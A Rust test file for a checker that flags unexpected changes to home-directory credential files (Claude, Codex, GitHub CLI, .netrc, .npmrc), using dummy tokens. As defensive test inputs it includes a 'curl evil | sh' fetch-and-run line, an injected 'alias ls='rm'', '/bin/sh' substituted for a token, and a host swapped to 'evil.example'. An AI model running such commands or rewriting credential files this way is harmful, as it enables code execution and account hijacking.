use super::*;

fn departs(file: &str, user: &str, program: &str) -> Option<Departure> {
    let file = HomeFile::parse(file).unwrap();
    check(&file, user.as_bytes(), program.as_bytes()).err()
}

const CLAUDE: &str = r#"{"claudeAiOauth":{"accessToken":"a","refreshToken":"r","expiresAt":1,"scopes":["x"],"subscriptionType":"max"},"organizationUuid":"o-1","mcpOAuth":{"s":{"serverUrl":"https://s"}}}"#;

#[test]
fn a_renewed_login_of_claude_is_the_same_login() {
    let file = ".claude/.credentials.json";
    let changed = |from: &str, to: &str| {
        assert!(CLAUDE.contains(from), "{from}");
        departs(file, CLAUDE, &CLAUDE.replace(from, to))
    };
    assert_eq!(
        changed(
            r#""a","refreshToken":"r","expiresAt":1"#,
            r#""b","refreshToken":"s","expiresAt":2"#
        ),
        None
    );
    assert_eq!(
        changed(r#""subscriptionType":"max""#, r#""subscriptionType":"pro","rateLimitTier":"t""#),
        None
    );
    assert_eq!(changed("o-1", "o-2"), Some(Departure::Setting));
    assert_eq!(changed("https://s", "https://t"), Some(Departure::Setting));
    assert_eq!(changed(r#","organizationUuid":"o-1""#, ""), Some(Departure::Keys));
    assert_eq!(
        changed(r#"{"claudeAiOauth""#, r#"{"apiKeyHelper":"sh","claudeAiOauth""#),
        Some(Departure::Keys)
    );
    assert_eq!(
        changed(r#""accessToken":"a""#, r#""accessToken":{"x":1}"#),
        Some(Departure::Format)
    );
    assert_eq!(
        changed(r#""accessToken":"a""#, r#""accessToken":"https://e""#),
        Some(Departure::Account)
    );
    // Twice: which one counts?
    assert_eq!(
        changed(
            r#""organizationUuid":"o-1""#,
            r#""organizationUuid":"o-2","organizationUuid":"o-1""#
        ),
        Some(Departure::Format)
    );
    assert_eq!(departs(file, CLAUDE, "{}"), Some(Departure::Keys));
    assert_eq!(departs(file, CLAUDE, "curl evil | sh"), Some(Departure::Format));
}

/// A JWT with these claims; its header and its signature are not looked at.
fn jwt(claims: &str) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut text = String::new();
    for three in claims.as_bytes().chunks(3) {
        let bits = three.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte));
        let bits = bits << (8 * (3 - three.len()));
        for digit in 0..=three.len() {
            text.push(DIGITS[(bits >> (18 - 6 * digit)) as usize & 63].into());
        }
    }
    format!("eyJhbGciOiJSUzI1NiJ9.{text}.c2ln")
}

#[test]
fn a_renewed_login_of_codex_is_of_the_same_account() {
    let auth = |key: &str, token: &str, account: &str| {
        format!(
            r#"{{"OPENAI_API_KEY":{key},"tokens":{{"id_token":"{token}","access_token":"a","refresh_token":"r","account_id":"{account}"}},"last_refresh":"2026"}}"#
        )
    };
    let one = jwt(
        r#"{"sub":"u1","exp":1,"https://api.openai.com/auth":{"chatgpt_account_id":"c1","chatgpt_plan_type":"pro"}}"#,
    );
    let renewed = jwt(
        r#"{"sub":"u1","exp":2,"https://api.openai.com/auth":{"chatgpt_account_id":"c1","chatgpt_plan_type":"plus"}}"#,
    );
    let others =
        jwt(r#"{"sub":"u2","exp":2,"https://api.openai.com/auth":{"chatgpt_account_id":"c1"}}"#);
    let accounts =
        jwt(r#"{"sub":"u1","exp":2,"https://api.openai.com/auth":{"chatgpt_account_id":"c2"}}"#);
    let user = auth("null", &one, "c1");
    let to = |key: &str, token: &str, account: &str| {
        departs(".codex/auth.json", &user, &auth(key, token, account))
    };
    assert_eq!(to("null", &renewed, "c1"), None);
    assert_eq!(to("null", &others, "c1"), Some(Departure::Account));
    assert_eq!(to("null", &accounts, "c1"), Some(Departure::Account));
    assert_eq!(to("null", "opaque", "c1"), Some(Departure::Account));
    assert_eq!(to("null", &renewed, "c2"), Some(Departure::Setting));
    assert_eq!(to("\"sk-theirs\"", &renewed, "c1"), Some(Departure::Setting));
}

#[test]
fn of_other_json_the_keys_the_account_and_the_places_stay() {
    let user =
        r#"{"token":"a","nested":{"email":"me@x","n":1},"list":["x"],"api_base":"https://a"}"#;
    let to = |from: &str, to: &str| departs(".tool/login.json", user, &user.replace(from, to));
    assert_eq!(to(r#""a""#, r#""b""#), None);
    assert_eq!(to(r#""n":1"#, r#""n":2,"m":3"#), None);
    assert_eq!(to("me@x", "you@x"), Some(Departure::Account));
    assert_eq!(to(r#""email":"me@x","#, ""), Some(Departure::Account));
    assert_eq!(to("https://a", "https://b"), Some(Departure::Account));
    assert_eq!(to(r#""a""#, r#""/bin/sh""#), Some(Departure::Account));
    assert_eq!(to(r#""n":1"#, r#""n":1,"x":"https://b""#), Some(Departure::Account));
    assert_eq!(to(r#"["x"]"#, r#"["x","https://b"]"#), Some(Departure::Account));
    assert_eq!(to(r#"["x"]"#, r#""x""#), Some(Departure::Format));
    assert_eq!(to(r#""list""#, r#""more":1,"list""#), Some(Departure::Keys));
    assert_eq!(departs("x", "[1]", "{}"), Some(Departure::Format));
    assert_eq!(departs("x", "plain", "{\"a\":1}"), Some(Departure::Format));
}

#[test]
fn of_a_text_the_lines_their_names_and_the_places_stay() {
    assert_eq!(departs("login", "old", "new"), None);
    assert_eq!(departs("login", "old\n", "new\nalias ls='rm'\n"), Some(Departure::Keys));
    assert_eq!(departs("login", "old", "new\u{1b}[2J"), Some(Departure::Format));
    let hosts = "github.com:\n    user: me\n    oauth_token: a\n";
    assert_eq!(departs("hosts.yml", hosts, &hosts.replace(": a", ": b")), None);
    assert_eq!(departs("hosts.yml", hosts, &hosts.replace("me", "you")), Some(Departure::Account));
    assert_eq!(
        departs("hosts.yml", hosts, &hosts.replace("github.com", "evil.example")),
        Some(Departure::Keys)
    );
    let netrc = "machine a.example login me password x";
    assert_eq!(departs(".netrc", netrc, &netrc.replace("password x", "password y")), None);
    assert_eq!(departs(".netrc", netrc, &netrc.replace("a.ex", "b.ex")), Some(Departure::Account));
    assert_eq!(departs(".netrc", netrc, &netrc.replace("me", "you")), Some(Departure::Account));
    assert_eq!(
        departs(".npmrc", "registry=https://a", "registry=https://b"),
        Some(Departure::Account)
    );
    assert_eq!(departs("rc", "token=a", "token=/bin/x"), Some(Departure::Account));
    let file = HomeFile::parse("x").unwrap();
    assert_eq!(check(&file, b"\xff\x00", b"\xff\x01"), Err(Departure::Format));
}
